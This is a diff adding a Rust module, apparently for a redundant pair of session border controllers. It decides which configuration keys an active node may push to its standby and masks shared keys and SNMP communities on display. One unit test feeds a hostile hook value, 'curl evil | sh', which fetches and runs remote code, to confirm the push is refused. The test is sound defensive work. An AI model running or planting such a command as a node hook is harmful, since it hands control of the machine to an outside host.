@@ -1,0 +1,240 @@
+//! What the pair's active may push to its standby, and what stays the standby's own; and how
+//! secrets are masked whenever a configuration is shown.
+//!
+//! # Configuration pushes
+//!
+//! A configuration activated on the active is pushed to the standby ([`Config::pushable_toml`])
+//! and applied there ([`Config::with_push`]). Some of it is **node-local** and never travels:
+//!
+//! - `redundancy-config`, all of it: the pair's peers and addresses, its `shared-key`, its
+//!   witness, its timers and the `notify-active` / `notify-standby` / `notify-fault` hooks
+//!   (shell commands the node runs). A push that changed them could take the node over or run
+//!   a command on it; each node's pair settings are set on that node by its operator.
+//! - `system-config.hostname`: each node's own name.
+//! - `system-config.lab-mode`: lab commands on the management socket (the memory ballast).
+//!
+//! Everything else is pushed: `system-config` options, memory sources and limits, alarm
+//! thresholds and trap receivers; `sip-config`; `sip-interface`s; `session-agent`s;
+//! `session-router`; `auto-scaling-profile`s. A push that names a node-local key is refused
+//! whole (the active never sends one), with the key in the error.
+//!
+//! # Secrets
+//!
+//! `redundancy-config.shared-key` and each `trap-receiver`'s SNMP `community` are secrets:
+//! [`Config::to_masked_json`] and the ACLI's `show` print them as `********` (empty stays
+//! empty). Only the file itself (mode 0600) holds them.
+
+use serde_json::Value as Json;
+use toml::Value;
+
+use crate::{Config, ConfigError};
+
+/// Node-local keys: `(table, None)` for a whole table, `(table, Some(key))` for one key of it.
+pub const NODE_LOCAL: &[(&str, Option<&str>)] = &[
+    ("redundancy-config", None),
+    ("system-config", Some("hostname")),
+    ("system-config", Some("lab-mode")),
+];
+
+/// How a secret prints.
+pub const MASK: &str = "********";
+
+/// The names of the keys that hold secrets, wherever they are.
+pub const SECRET_KEYS: &[&str] = &["shared-key", "community"];
+
+impl Config {
+    /// The part of this configuration that the active pushes to its standby: everything but the
+    /// node-local keys ([`NODE_LOCAL`]), as TOML.
+    #[must_use]
+    pub fn pushable_toml(&self) -> String {
+        let mut doc = self.to_toml_value();
+        for (table, key) in NODE_LOCAL {
+            match key {
+                None => {
+                    doc.remove(*table);
+                }
+                Some(key) => {
+                    if let Some(Value::Table(t)) = doc.get_mut(*table) {
+                        t.remove(*key);
+                    }
+                }
+            }
+        }
+        toml::to_string(&Value::Table(doc))
+            .unwrap_or_else(|e| unreachable!("a TOML table always serializes: {e}"))
+    }
+
+    /// This configuration with a push applied: every pushable part from `pushed`, the
+    /// node-local keys kept from `self`; validated.
+    ///
+    /// # Errors
+    /// The push names a node-local key (refused whole, the key named), is not a valid
+    /// configuration, or the result does not validate.
+    pub fn with_push(&self, pushed: &str) -> Result<Self, ConfigError> {
+        let mut doc: toml::Table = toml::from_str(pushed)?;
+        for (table, key) in NODE_LOCAL {
+            let named = match key {
+                None => doc.contains_key(*table),
+                Some(key) => doc
+                    .get(*table)
+                    .and_then(Value::as_table)
+                    .is_some_and(|t| t.contains_key(*key)),
+            };
+            if named {
+                let full = key.map_or_else(|| (*table).to_owned(), |k| format!("{table}.{k}"));
+                return Err(ConfigError::invalid(
+                    full,
+                    "(pushed by the active)",
+                    "a configuration push may not change a node-local setting",
+                    "set it on this node with its own ACLI: redundancy-config, \
+                     system-config hostname and lab-mode are never pushed",
+                ));
+            }
+        }
+        let mine = self.to_toml_value();
+        for (table, key) in NODE_LOCAL {
+            let Some(own) = mine.get(*table) else {
+                continue;
+            };
+            match key {
+                None => {
+                    doc.insert((*table).to_owned(), own.clone());
+                }
+                Some(key) => {
+                    if let Some(v) = own.as_table().and_then(|t| t.get(*key)) {
+                        let entry = doc
+                            .entry((*table).to_owned())
+                            .or_insert_with(|| Value::Table(toml::Table::new()));
+                        if let Value::Table(t) = entry {
+                            t.insert((*key).to_owned(), v.clone());
+                        }
+                    }
+                }
+            }
+        }
+        let text = toml::to_string(&Value::Table(doc))
+            .unwrap_or_else(|e| unreachable!("a TOML table always serializes: {e}"));
+        Self::from_toml_str(&text)
+    }
+
+    /// The configuration as JSON with every secret masked ([`SECRET_KEYS`]): what `show
+    /// running-config --json` prints.
+    #[must_use]
+    pub fn to_masked_json(&self) -> Json {
+        let mut v = serde_json::to_value(self).unwrap_or(Json::Null);
+        mask_json(&mut v);
+        v
+    }
+
+    fn to_toml_value(&self) -> toml::Table {
+        toml::Table::try_from(self)
+            .unwrap_or_else(|e| unreachable!("the configuration model always serializes: {e}"))
+    }
+}
+
+/// Replaces the value of every secret key in `v` (any depth) by [`MASK`], unless empty.
+fn mask_json(v: &mut Json) {
+    match v {
+        Json::Object(map) => {
+            for (k, val) in map.iter_mut() {
+                let secret = SECRET_KEYS
+                    .iter()
+                    .any(|s| k == s || k.replace('_', "-") == *s);
+                match val {
+                    Json::String(s) if secret && !s.is_empty() => *s = MASK.to_owned(),
+                    _ => mask_json(val),
+                }
+            }
+        }
+        Json::Array(items) => items.iter_mut().for_each(mask_json),
+        _ => {}
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn pair_node(hostname: &str, notify: &str) -> Config {
+        let text = format!(
+            "[system-config]\nhostname = \"{hostname}\"\nlab-mode = true\n\
+             [[system-config.trap-receiver]]\nip-address = \"127.0.0.1\"\nport = 1162\ncommunity = \"trap-secret\"\n\
+             [redundancy-config]\nstate = \"enabled\"\nshared-key = \"the-pair-secret-0123\"\n\
+             notify-active = \"{notify}\"\n\
+             [[redundancy-config.peer]]\nname = \"sbc-a\"\ntype = \"primary\"\ndestinations = [\"127.0.0.11:9090\"]\n\
+             [[redundancy-config.peer]]\nname = \"sbc-b\"\ntype = \"secondary\"\ndestinations = [\"127.0.0.12:9090\"]\n"
+        );
+        Config::from_toml_str(&text).expect("valid")
+    }
+
+    #[test]
+    fn a_push_carries_no_node_local_key_and_no_secret_of_the_pair() {
+        let a = pair_node("sbc-a", "ip addr add 192.0.2.10/24 dev eth0");
+        let text = a.pushable_toml();
+        assert!(!text.contains("redundancy-config"), "{text}");
+        assert!(!text.contains("the-pair-secret"), "{text}");
+        assert!(!text.contains("hostname"), "{text}");
+        assert!(!text.contains("lab-mode"), "{text}");
+        assert!(text.contains("trap-receiver"), "trap receivers are pushed");
+    }
+
+    #[test]
+    fn applying_a_push_keeps_the_node_local_keys() {
+        let a = pair_node("sbc-a", "hook-a");
+        let mut changed = a.clone();
+        changed.sip_config.t1_ms = 400;
+        changed.system.lab_mode = false;
+        let b = pair_node("sbc-b", "hook-b");
+        let merged = b.with_push(&changed.pushable_toml()).expect("applies");
+        assert_eq!(merged.sip_config.t1_ms, 400);
+        assert_eq!(merged.system.hostname, "sbc-b");
+        assert!(merged.system.lab_mode, "lab-mode is the standby's own");
+        assert_eq!(merged.redundancy, b.redundancy);
+        assert_eq!(merged.redundancy.notify_active, "hook-b");
+        // Both now agree on what is pushable.
+        assert_eq!(merged.pushable_toml(), changed.pushable_toml());
+    }
+
+    #[test]
+    fn a_push_that_names_a_node_local_key_is_refused_whole() {
+        let b = pair_node("sbc-b", "hook-b");
+        for (push, key) in [
+            (
+                "[redundancy-config]\nnotify-active = \"curl evil | sh\"\n",
+                "redundancy-config",
+            ),
+            (
+                "[system-config]\nhostname = \"x\"\n",
+                "system-config.hostname",
+            ),
+            (
+                "[system-config]\nlab-mode = true\n",
+                "system-config.lab-mode",
+            ),
+            (
+                "[sip-config]\nt1-ms = 400\n[redundancy-config]\nshared-key = \"x\"\n",
+                "redundancy-config",
+            ),
+        ] {
+            let e = b.with_push(push).expect_err(push).to_string();
+            assert!(e.starts_with(key), "{e}");
+            assert!(e.contains("node-local"), "{e}");
+        }
+        assert!(b.with_push("not toml [").is_err());
+    }
+
+    #[test]
+    fn secrets_are_masked_in_json() {
+        let a = pair_node("sbc-a", "");
+        let v = a.to_masked_json();
+        let text = v.to_string();
+        assert!(!text.contains("the-pair-secret"), "{text}");
+        assert!(!text.contains("trap-secret"), "{text}");
+        assert_eq!(v["redundancy-config"]["shared-key"], MASK);
+        assert_eq!(v["system-config"]["trap-receiver"][0]["community"], MASK);
+        // Everything else is still there.
+        assert_eq!(v["system-config"]["hostname"], "sbc-a");
+        let empty = Config::embedded_default().to_masked_json();
+        assert_eq!(empty["redundancy-config"]["shared-key"], "");
+    }
+}
